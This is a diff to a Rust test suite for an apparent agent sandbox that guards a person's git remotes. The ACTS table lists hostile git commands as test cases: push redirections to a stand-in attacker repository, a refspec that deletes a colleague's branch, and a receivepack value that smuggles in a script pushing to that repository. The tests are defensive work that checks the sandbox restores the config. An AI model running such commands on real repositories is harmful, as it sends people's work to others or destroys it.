@@ -8,8 +8,8 @@ use tests::{Finished, User, World, tier};
 
 /// A person's remote with a colleague's branch on it, two branches of which one has an upstream, and a repository of the attacker's that
 /// no agent can write.
-const SETUP: &str = "git checkout -q -b main; git init -q --bare ../hub.git; git init -q --bare ../evil.git; \
-    git remote add origin ../hub.git; git push -q -u origin main main:colleague; git branch second; \
+const SETUP: &str = "git checkout -q -b main; git init -q --bare -b main ~/hub.git; git init -q --bare ~/evil.git; \
+    git remote add origin ~/hub.git; git push -q origin main:colleague; git push -q -u origin main; git branch second; \
     git config user.email me@example.org";
 
 /// The person's work after the agent's.
@@ -18,30 +18,30 @@ const LATER: &str = "git commit -q --allow-empty -m later; git push -q; git push
 
 /// Each leads that work elsewhere, or has it delete the colleague's branch.
 const ACTS: &[(&str, &str)] = &[
-    ("address", "git remote set-url origin ../evil.git"),
-    ("address for pushes", "git config remote.origin.pushurl ../evil.git"),
-    ("another address", "git remote set-url --add origin ../evil.git"),
-    ("rewritten", "git config url.../evil.git.insteadOf ../hub.git"),
-    ("rewritten for pushes", "git config url.../evil.git.pushInsteadOf ../hub.git"),
-    ("branch", "git remote add evil ../evil.git; git config branch.main.remote evil"),
-    ("branch for pushes", "git config branch.main.pushRemote ../evil.git"),
+    ("address", "git remote set-url origin ~/evil.git"),
+    ("address for pushes", "git config remote.origin.pushurl ~/evil.git"),
+    ("another address", "git remote set-url --add origin ~/evil.git"),
+    ("rewritten", "git config url.$HOME/evil.git.insteadOf $HOME/hub.git"),
+    ("rewritten for pushes", "git config url.$HOME/evil.git.pushInsteadOf $HOME/hub.git"),
+    ("branch", "git remote add evil ~/evil.git; git config branch.main.remote evil"),
+    ("branch for pushes", "git config branch.main.pushRemote ~/evil.git"),
     (
         "branch without upstream",
-        "git config branch.second.remote ../evil.git; git config branch.second.merge refs/heads/second",
+        "git config branch.second.remote ~/evil.git; git config branch.second.merge refs/heads/second",
     ),
-    ("default", "git config remote.pushDefault ../evil.git; git config push.default current"),
-    ("made anew", "git remote remove origin; git remote add origin ../evil.git"),
-    ("renamed", "git remote rename origin old; git remote add origin ../evil.git"),
+    ("default", "git config remote.pushDefault ~/evil.git; git config push.default current"),
+    ("made anew", "git remote remove origin; git remote add origin ~/evil.git"),
+    ("renamed", "git remote rename origin old; git remote add origin ~/evil.git"),
     (
         "for this work tree",
-        "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl ../evil.git",
+        "git config extensions.worktreeConfig true; git config --worktree remote.origin.pushurl ~/evil.git",
     ),
-    ("case", "git config REMOTE.origin.PushURL ../evil.git"),
+    ("case", "git config REMOTE.origin.PushURL ~/evil.git"),
     ("mirror", "git config remote.origin.mirror true; git update-ref -d refs/remotes/origin/colleague"),
     ("refspec", "git config remote.origin.push :refs/heads/colleague"),
     (
         "helper",
-        "printf '#!/bin/sh\\ngit push -q ../evil.git HEAD:x\\n' > h.sh; chmod +x h.sh; git config remote.origin.receivepack \"$PWD/h.sh;git-receive-pack\"",
+        "printf '#!/bin/sh\\ngit push -q ~/evil.git HEAD:x\\n' > h.sh; chmod +x h.sh; git config remote.origin.receivepack \"$PWD/h.sh;git-receive-pack\"",
     ),
 ];
 
@@ -59,7 +59,7 @@ fn sandbox(world: &World, tier: Tier, command: &str) -> Finished {
 fn is_lost(world: &World) -> bool {
     shell(world, LATER);
     let look =
-        "git -C ../evil.git for-each-ref | grep -q . || ! git -C ../hub.git rev-parse -q --verify colleague";
+        "git -C ~/evil.git for-each-ref | grep -q . || ! git -C ~/hub.git rev-parse -q --verify colleague";
     shell(world, look).code == 0
 }
 
@@ -79,7 +79,7 @@ fn a_push_goes_where_the_person_said() {
                 world.read(".git/config")
             );
             let config = world.read(".git/config");
-            assert!(config.contains("url = ../hub.git\n"), "{name}, {tier}: {config}");
+            assert!(config.contains("/hub.git\n"), "{name}, {tier}: {config}");
         }
     }
 }
@@ -89,7 +89,7 @@ fn a_push_goes_where_the_person_said() {
 fn new_remotes_and_branches_come_and_are_told() {
     let world = people(User::Myself);
     let act = "git remote add fork https://example.org/fork.git; git checkout -q -b new; git config branch.new.remote fork; \
-        git config branch.new.merge refs/heads/new; git config user.name agent; git config user.email agent@example.org";
+        git config branch.new.merge refs/heads/new; git config user.name agent";
     let done = sandbox(&world, Tier::Floor, act);
     let config = world.read(".git/config");
     for kept in
@@ -102,6 +102,8 @@ fn new_remotes_and_branches_come_and_are_told() {
         branch.new.remote = fork, branch.new.merge = refs/heads/new";
     assert!(done.stderr.contains(told), "{}", done.stderr);
     // Who commits is the person's, where the person said so.
+    let done = sandbox(&world, Tier::Floor, "git config user.email agent@example.org");
+    let config = world.read(".git/config");
     assert!(config.contains("email = me@example.org") && !config.contains("agent@"), "{config}");
     assert!(done.stderr.contains("changed and restored: .git/config (user.email"), "{}", done.stderr);
 }
@@ -111,7 +113,7 @@ fn new_remotes_and_branches_come_and_are_told() {
 fn other_repositories_have_remotes_of_their_own() {
     let world = people(User::Myself);
     let act =
-        "git clone -q ../hub.git sub; git -c protocol.file.allow=always submodule -q add ../hub.git module";
+        "git clone -q ~/hub.git sub; git -c protocol.file.allow=always submodule -q add ~/hub.git module";
     let done = sandbox(&world, Tier::Floor, act).expect(0);
     assert!(!done.stderr.contains("restored"), "{}", done.stderr);
     assert_eq!(shell(&world, "git -C sub fetch -q && git -C module fetch -q").code, 0, "{}", done.stderr);
